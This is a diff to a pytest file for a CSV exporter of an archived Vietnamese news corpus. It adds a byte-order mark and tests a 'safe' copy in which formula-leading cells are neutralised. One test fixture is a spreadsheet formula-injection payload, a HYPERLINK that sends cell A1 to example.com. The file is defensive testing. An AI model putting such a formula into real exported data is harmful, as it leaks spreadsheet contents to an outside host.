@@ -30,7 +30,8 @@ def snap(archive_db, tmp_path_factory):
 
 
 def read_csv(path):
-    with path.open(newline="", encoding="utf-8") as f:
+    """Rows of an exported CSV, read as a spreadsheet or csv user would: past its byte-order mark."""
+    with path.open(newline="", encoding="utf-8-sig") as f:
         return list(csv.DictReader(f))
 
 
@@ -38,7 +39,7 @@ def test_export_writes_csvs_matching_their_manifest(archive_db, tmp_path):
     out = tmp_path / "export"
     manifest = export.export_csv(archive_db, out)
     assert json.loads((out / "manifest.json").read_text()) == manifest
-    assert set(manifest["files"]) == {f"{t}.csv" for t in export.TABLES}
+    assert set(manifest["files"]) == {f"{t}.csv" for t in export.TABLES} | {"articles.safe.csv"}
     for name, entry in manifest["files"].items():
         data = (out / name).read_bytes()
         assert hashlib.sha256(data).hexdigest() == entry["sha256"]
@@ -55,7 +56,8 @@ def test_articles_csv_keeps_published_text_without_fold_columns(archive_db, tmp_
     assert not [c for c in next(iter(articles.values())) if c.endswith("_fold")]
     assert articles[url("van-hoa-moi")]["title"] == "Công tác văn hoá và thuỷ lợi"
     assert articles[url("xss")]["text"] == XSS_TEXT
-    assert (tmp_path / "e" / "articles.csv").read_bytes().startswith(b"url,site,title,")  # UTF-8, no BOM
+    # UTF-8 with a byte-order mark, so that Excel reads Vietnamese as UTF-8
+    assert (tmp_path / "e" / "articles.csv").read_bytes().startswith(b"\xef\xbb\xbfurl,site,title,")
     captures = read_csv(tmp_path / "e" / "captures.csv")
     assert "body" not in captures[0] and captures[0]["sha256"]
 
@@ -295,7 +297,7 @@ def csv_reference(db_path, table):
         conn.execute(f"select {', '.join(f'[{c}]' for c in columns)} from [{table}] order by rowid")
     )
     conn.close()
-    return out.getvalue().encode("utf-8")
+    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")
 
 
 @pytest.mark.parametrize(
@@ -332,3 +334,78 @@ def test_csv_lines_are_what_the_csv_module_writes(archive_db, tmp_path, value):
     export.export_csv(db_path, tmp_path / "e")
     for table in export.TABLES:
         assert (tmp_path / "e" / f"{table}.csv").read_bytes() == csv_reference(db_path, table), table
+
+
+# -- spreadsheets -----------------------------------------------------------------------------
+
+#: Archived cells a spreadsheet would run as formulas, and cells it would not.
+FORMULAS = {
+    "title": '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
+    "lead": "+84 máy lẻ 12",
+    "author": "@Trần Bình",
+    "category": "\tThời sự",
+    "source": "-7",  # a number, not a formula: left alone
+    "text": "- Đoạn đầu.\n- Đoạn hai.",
+    "published_raw": "\r10:10",
+}
+
+
+def test_spreadsheet_copy_neutralises_formulas_and_the_archive_stays_faithful(archive_db, tmp_path):
+    db_path = tmp_path / "archive.db"
+    db_path.write_bytes(archive_db.read_bytes())
+    conn = sqlite3.connect(db_path)
+    assignments = ", ".join(f"{column} = ?" for column in FORMULAS)
+    conn.execute(f"update articles set {assignments} where url = ?", [*FORMULAS.values(), url("xss")])
+    conn.execute("update articles set lead = ? where url = ?", ["nul\x00byte", url("dang")])
+    conn.commit()
+    conn.close()
+    manifest = export.export_csv(db_path, tmp_path / "e")
+    faithful = {row["url"]: row for row in read_csv(tmp_path / "e" / "articles.csv")}
+    safe = {row["url"]: row for row in read_csv(tmp_path / "e" / "articles.safe.csv")}
+    # articles.csv keeps every cell as archived, formulas included
+    assert {c: faithful[url("xss")][c] for c in FORMULAS} == FORMULAS
+    assert faithful[url("dang")]["lead"] == "nul\x00byte"
+    # the copy: each formula cell behind an apostrophe, everything else identical
+    expected = {c: v if c == "source" else "'" + v for c, v in FORMULAS.items()}
+    assert {c: safe[url("xss")][c] for c in FORMULAS} == expected
+    assert safe.keys() == faithful.keys()
+    for key, row in faithful.items():
+        for column, value in row.items():
+            if safe[key][column] != value:
+                assert safe[key][column] == "'" + value and value.startswith(export.FORMULA_STARTS)
+    entry = manifest["files"]["articles.safe.csv"]
+    assert entry["copy_of"] == "articles.csv" and entry["rows"] == len(ARTICLES)
+    assert entry["neutralised_cells"] == len(FORMULAS) - 1
+    assert (tmp_path / "e" / "articles.safe.csv").read_bytes().startswith(b"\xef\xbb\xbfurl,site,")
+    assert export.verify(tmp_path / "e") == []
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-7", "-7"),
+        ("+3.5e2", "+3.5e2"),
+        ("Đảng", "Đảng"),
+        (" =1", " =1"),
+        ("", ""),
+    ],
+    ids=repr,
+)
+def test_spreadsheet_safe(cell, shown):
+    assert export.spreadsheet_safe(cell) == shown
+
+
+def test_a_csv_without_byte_order_mark_still_verifies(snap, tmp_path):
+    """Exports made before the byte-order mark: their manifests vouch for files without one."""
+    copy = copy_of(snap, tmp_path)
+    data = (copy / "articles.csv").read_bytes()
+    assert data.startswith(export.BOM)
+    (copy / "articles.csv").write_bytes(data[len(export.BOM) :])
+    rewrite_manifest(copy, "articles.csv")
+    assert export.verify(copy) == []
